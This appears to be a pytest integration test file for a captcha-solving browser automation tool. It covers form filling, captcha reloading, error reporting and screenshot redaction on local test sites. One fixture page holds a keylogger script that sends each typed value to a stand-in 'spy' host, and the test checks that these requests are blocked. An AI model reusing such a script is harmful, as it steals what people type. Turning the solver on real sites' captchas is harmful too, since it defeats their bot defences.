"""A whole login: steps before the captcha is looked for, further fields of the form, and what never leaves the page."""

import asyncio
import io

import numpy as np
import pytest
import pytest_asyncio
from aiohttp import web
from PIL import Image

from captchad.browser.finding.patience import SLOW_LOAD_SECONDS, STILL_SECONDS
from captchad.domain.errors import TaskErrorCode
from captchad.domain.page import Cookie, Fill, FormField, SessionState, Step
from captchad.recognition.decoding import Pixels
from tests.integration.browser.form_stage import ERROR, FIELDS, WELCOME, FormSite, FormStage, quote
from tests.integration.browser.stage import LocalSite, Stage, draw_picture

pytestmark = pytest.mark.asyncio(loop_scope="module")

PASSWORD = "correct horse!"
LOGIN_FIELDS = (
    FormField("#user", value="anna"),
    FormField("#password", value=PASSWORD),
    FormField("#role", choose="Editor"),
    FormField("#agree", check=True),
    FormField("#remember", check=False),
)
LOGIN = Fill("#answer", "#send", success="#welcome", failure=".error", fields=LOGIN_FIELDS)
INPUTS = (
    "<input id=user name=user><input id=password name=password type=password>"
    "<select id=role name=role><option value=r>Reader<option value=e>Editor</select>"
    "<input id=agree name=agree type=checkbox style='opacity:0;position:absolute;width:0;height:0'>"
    "<label for=agree>I agree</label><input id=remember name=remember type=checkbox checked>"
)


SENDING = (
    "<script>send.onclick = async () => { const body = new URLSearchParams({ answer: answer.value });"
    " document.body.innerHTML = await (await fetch('/check', { method: 'POST', body })).text() }</script>"
)
"""Sends the answer where there is no form."""


class LoginSite(FormSite):
    """A form that also wants a user, a password and an agreement."""

    def __init__(self, site: LocalSite) -> None:
        super().__init__(site)
        self.sent: list[dict[str, str]] = []
        self.show(f'<form method="post" action="/login">{INPUTS}{FIELDS}</form>')
        site.put("/login", self._log_in)

    async def _log_in(self, request: web.Request) -> web.StreamResponse:
        form = {name: str(value) for name, value in (await request.post()).items()}
        self.sent.append(form)
        is_right = self.is_right(request.cookies.get("visitor", ""), form.get("answer", ""))
        return self._answer(request, WELCOME if is_right else ERROR + self.page)


@pytest_asyncio.fixture(loop_scope="module")
async def logins(stage: Stage, site: LocalSite) -> FormStage:
    return FormStage(stage, LoginSite(site))


def sent_by(logins: FormStage) -> list[dict[str, str]]:
    assert isinstance(logins.form, LoginSite)
    return logins.form.sent


async def test_further_fields_are_typed_chosen_and_ticked_before_the_answer(logins: FormStage) -> None:
    result = await logins.complete(fill=LOGIN)
    assert result.verified is True
    assert sent_by(logins) == [
        {"user": "anna", "password": PASSWORD, "role": "e", "agree": "on", "answer": "word1"},
    ]


async def test_further_fields_are_filled_again_with_every_answer(logins: FormStage) -> None:
    logins.misread = 1
    assert (await logins.complete(fill=LOGIN)).verified is True
    assert [(sent["user"], sent["answer"]) for sent in sent_by(logins)] == [("anna", "nonsense"), ("anna", "word2")]


@pytest.mark.parametrize(
    ("field", "message"),
    [
        (FormField("#nowhere", value="x"), "fill.fields[0]: nothing visible matches #nowhere"),
        (FormField("#role", value="x"), "fill.fields[0]: nothing visible matches #role"),
        (FormField("#user", check=True), "fill.fields[0]: nothing visible matches #user"),
    ],
)
async def test_a_field_that_is_not_there_or_of_another_kind_is_named(
    field: FormField, message: str, logins: FormStage
) -> None:
    settlement = await logins.settle(fill=Fill("#answer", "#send", fields=(field,)))
    assert settlement.error is not None
    assert settlement.error.code is TaskErrorCode.CAPTCHA_NOT_FOUND
    assert settlement.error.message == message
    assert not sent_by(logins)


async def test_a_login_behind_a_notice_and_in_a_dialog_is_reached_by_steps(logins: FormStage) -> None:
    logins.form.show(
        "<div id=notice style='position:fixed;inset:0;background:#eee;z-index:9'><button id=ok>OK</button></div>"
        "<button id=start>Log in</button>"
        f"<dialog id=box><form method=post action=/login>{INPUTS}{FIELDS}</form></dialog><script>"
        "ok.onclick = () => notice.remove();"
        "const image = captcha.src; captcha.removeAttribute('src');"
        "start.onclick = () => setTimeout(() => { captcha.src = image; box.showModal() }, 300)</script>"
    )
    steps = (Step("click", "#ok"), Step("hover", "#start"), Step("click", "#start"), Step("wait_for", "#user"))
    result = await logins.complete(steps=steps, fill=LOGIN)
    assert result.verified is True


async def test_steps_are_taken_again_where_the_page_is_opened_again(logins: FormStage) -> None:
    logins.misread = 1
    logins.form.show(
        "<button id=start>Log in</button><div id=box hidden></div><script>start.onclick = () => { box.hidden = false;"
        f" box.innerHTML = `<form method=post action=/login>{INPUTS}{FIELDS}</form>` }}</script>"
    )
    assert (await logins.complete(steps=(Step("click", "#start"),), fill=LOGIN)).verified is True
    assert len(sent_by(logins)) == 2


@pytest.mark.parametrize(
    ("step", "message"),
    [
        (Step("click", "#gone"), "step 1 (click): nothing visible matches #gone"),
        (Step("click", "#under"), 'step 1 (click): #under is covered by div#cover.veil "Please wait"'),
        (Step("click", "#off"), "step 1 (click): #off is disabled"),
        (Step("type", "#under", "text"), "step 1 (type): nothing visible matches #under"),
    ],
)
async def test_a_step_that_fails_is_named_with_what_was_in_the_way(step: Step, message: str, logins: FormStage) -> None:
    logins.form.show(
        f"<form>{FIELDS}</form><button id=under>Open</button><button id=off disabled>Off</button><div id=cover "
        "class='veil dark' style='position:fixed;inset:0;background:#eee8;pointer-events:auto'>Please wait</div>"
        "<script>off.style.cssText = 'position:relative;z-index:99'</script>"
    )
    settlement = await logins.settle(steps=(step,))
    assert settlement.error is not None
    assert settlement.error.code is TaskErrorCode.STEP_FAILED
    assert settlement.error.message == message


async def test_what_is_typed_reaches_no_other_host_not_even_a_declared_one(logins: FormStage, stage: Stage) -> None:
    spy = await stage.add_site()
    stage.allow_name("spy.localhost", spy.port)
    spy.put_page("/before", "")
    spy.put_page("/key", "")
    logins.form.show(
        f"<form method=post action=/login>{INPUTS}{FIELDS}</form><script>"
        f"const spy = 'http://spy.localhost:{spy.port}';"
        "fetch(spy + '/before', { mode: 'no-cors' });"
        "document.addEventListener('input', (event) => fetch(spy + '/key?' + event.target.value, { mode: 'no-cors' }))"
        "</script>"
    )
    assert (await logins.complete(fill=LOGIN)).verified is True
    assert spy.hits["/before"] == 1
    assert spy.hits["/key"] == 0


async def test_a_form_that_leads_to_another_declared_host_is_not_filled(logins: FormStage, stage: Stage) -> None:
    other = await stage.add_site()
    stage.allow_name("other.localhost", other.port)
    logins.form.show(f"<form method=post action=http://other.localhost:{other.port}/login>{INPUTS}{FIELDS}</form>")
    settlement = await logins.settle(fill=LOGIN)
    assert settlement.error is not None
    assert settlement.error.code is TaskErrorCode.TARGET_NOT_ALLOWED
    assert not other.hits["/login"]
    stage.allow_form_host("127.0.0.1", "other.localhost")
    other.put_page("/login", WELCOME)
    assert (await logins.complete(fill=LOGIN)).verified is True


async def test_no_screenshot_shows_a_password_or_what_was_typed(logins: FormStage) -> None:
    logins.form.show(
        "<p id=echo style='font:40px monospace;margin:0'>nothing typed</p>"
        f"<form method=post action=/login>{INPUTS}{FIELDS}</form><script>"
        "password.type = 'text'; password.style.font = '40px monospace';"
        "password.oninput = () => { echo.textContent = password.value }</script>"
    )
    seen = [await photograph(logins, Step("type", "#password", value)) for value in (PASSWORD, "another, as long")]
    assert np.array_equal(*seen)
    # Nor is there anything of it to see: the line of the echo is covered as a whole.
    assert len(np.unique(seen[0][12:40, 20:200].reshape(-1, 3), axis=0)) == 1


@pytest.mark.parametrize("where", ["in the page", "in another root", "in a frame"])
async def test_no_screenshot_shows_what_a_closed_shadow_root_repeats(where: str, logins: FormStage) -> None:
    echo = "<p style='font:40px monospace;margin:0'>nothing typed</p><input style='font:40px monospace'>"
    script = (
        f'const root = {{start}}.attachShadow({{{{ mode: "closed" }}}}); root.innerHTML = "{echo}";'
        "top.show = (text) => {{ root.querySelector('p').textContent = root.querySelector('input').value = text }}"
    )
    host = "<div id=host style='display:block;min-height:100px;margin:-8px -8px 0'></div>"
    if where == "in a frame":
        inner = quote(f"{host}<script>{script.format(start='host')}</script>")
        html = f"<iframe srcdoc='{inner}' style='border:0;width:600px;height:120px;display:block'></iframe>"
    else:
        start = "host" if where == "in the page" else "outer.firstChild"
        outer = (
            ""
            if where == "in the page"
            else (
                'const outer = host.attachShadow({ mode: "open" });'
                "outer.innerHTML = '<div style=\"display:block;min-height:100px\"></div>';"
            )
        )
        html = f"{host}<script>{outer}{script.format(start=start)}</script>"
    logins.form.show(
        f"{html}<form method=post action=/login>{INPUTS}{FIELDS}</form><script>"
        "password.style.font = '40px monospace'; password.oninput = () => show(password.value)</script>"
    )
    seen = [await photograph(logins, Step("type", "#password", value)) for value in (PASSWORD, "another, as long")]
    assert np.array_equal(seen[0], seen[1])


async def test_no_screenshot_shows_what_of_its_session_a_page_repeats(logins: FormStage) -> None:
    logins.form.show(
        "<p id=echo style='font:40px monospace;margin:0'></p>"
        f"<form method=post action=/login>{INPUTS}{FIELDS}</form><script>"
        "echo.textContent = `signed in as ${document.cookie.split('=')[1]}`</script>"
    )
    click = Step("click", "#answer")
    seen = [
        await photograph(logins, click, session=SessionState(cookies=(Cookie("sid", value),)))
        for value in ("sid-of-anna", "sid-of-otto")
    ]
    assert np.array_equal(*seen)


async def photograph(logins: FormStage, step: Step, **request: object) -> Pixels:
    """Return the screenshot that is kept of a page after a step, above the captcha's own picture."""
    settlement = await logins.settle(steps=(step,), evidence=True, fill=None, **request)
    assert settlement.evidence is not None
    assert settlement.evidence.screenshot is not None
    return np.asarray(Image.open(io.BytesIO(settlement.evidence.screenshot)).convert("RGB"))[:60]


async def test_of_two_forms_the_captcha_is_that_of_the_field_for_the_answer(logins: FormStage) -> None:
    other = "<form action=/elsewhere><input name=captcha><img class=captcha src=/captcha-of-the-other></form>"
    logins.form.site.put_picture("/captcha-of-the-other", draw_picture("other"))
    for html in (
        f"{other}<form method=post action=/check>{FIELDS}</form>",
        f"<div>{other}</div><div id=mine>{FIELDS}</div>{SENDING}",
    ):
        logins.form.show(html)
        assert (await logins.complete()).verified is True


@pytest.mark.parametrize(
    "draws", ["captcha.src = '/picture?1'", "setTimeout(() => { captcha.src = '/picture?1' }, 400)"]
)
async def test_a_captcha_that_is_drawn_once_its_field_has_the_focus_is_found(draws: str, logins: FormStage) -> None:
    logins.form.show(
        "<form method=post action=/check><img id=captcha><input id=answer name=answer><button id=send>Send</button>"
        f"</form><script>answer.onfocus = () => {{ {draws} }}</script>"
    )
    assert (await logins.complete()).verified is True


@pytest.mark.parametrize("event", ["focus", "input"])
@pytest.mark.parametrize("seconds", [0.0, 0.5])
async def test_a_captcha_that_is_drawn_anew_while_its_answer_is_typed_is_read_anew(
    event: str, seconds: float, logins: FormStage
) -> None:
    async def draw(request: web.Request) -> web.StreamResponse:
        await asyncio.sleep(seconds)
        return await logins.form.draw(request)

    logins.form.site.put("/another", draw)
    logins.form.show(
        f"<form method=post action=/check>{FIELDS}</form><script>let isDrawn = false; answer.on{event} = () => {{"
        " if (!isDrawn) { isDrawn = true; captcha.src = '/another' } }</script>"
    )
    assert (await logins.complete(retry_count=0)).verified is True
    assert len(logins.form.answers) == 1


async def test_a_captcha_that_never_stays_is_given_up_and_nothing_is_sent(logins: FormStage) -> None:
    logins.form.show(
        f"<form method=post action=/check>{FIELDS}</form>"
        "<script>answer.oninput = () => { captcha.src = '/picture?' + Math.random() }</script>"
    )
    settlement = await logins.settle()
    assert settlement.error is not None
    assert settlement.error.message == "the page has drawn another captcha 3 times while its answer was typed"
    assert not logins.form.answers


async def test_a_captcha_that_takes_its_time_is_waited_for(logins: FormStage) -> None:
    async def draw(request: web.Request) -> web.StreamResponse:
        await asyncio.sleep(SLOW_LOAD_SECONDS + STILL_SECONDS + 1)
        return await logins.form.draw(request)

    logins.form.site.put("/slowly", draw)
    logins.form.show(logins.form.page.replace("/picture", "/slowly"))
    assert (await logins.complete(fill=LOGIN)).verified is True


@pytest.mark.parametrize(
    ("response", "reason"),
    [
        (web.Response(status=500), "answered 500"),
        (web.Response(text="<p>Log in", content_type="text/html"), "answered with text/html"),
        (web.Response(status=302, headers={"Location": "http://elsewhere.localhost/"}), "was refused: undeclared_host"),
    ],
)
async def test_a_captcha_whose_picture_does_not_come_is_named_with_the_reason(
    response: web.Response, reason: str, logins: FormStage
) -> None:
    async def answer(_: web.Request) -> web.StreamResponse:
        return web.Response(status=response.status, headers=response.headers, body=response.body)

    logins.form.site.put("/broken", answer)
    logins.form.show(logins.form.page.replace("/picture", "/broken"))
    settlement = await logins.settle(fill=LOGIN)
    assert settlement.error is not None
    url = logins.form.site.url("/broken")
    assert settlement.error.message == f"the captcha's picture is missing: {url} {reason}"


@pytest.mark.parametrize("fails_times", [1, 2])
async def test_a_captcha_that_failed_to_load_is_clicked_once_for_another(fails_times: int, logins: FormStage) -> None:
    site = logins.form.site

    async def draw(request: web.Request) -> web.StreamResponse:
        return await logins.form.draw(request) if site.hits["/flaky"] > fails_times else web.Response(status=500)

    site.put("/flaky", draw)
    again = "onclick=\"this.src = '/flaky?' + Math.random()\" src=/flaky"
    logins.form.show(logins.form.page.replace('src="/picture"', again))
    settlement = await logins.settle(fill=LOGIN)
    assert site.hits["/flaky"] == 2
    assert (settlement.result is not None) is (fails_times == 1)
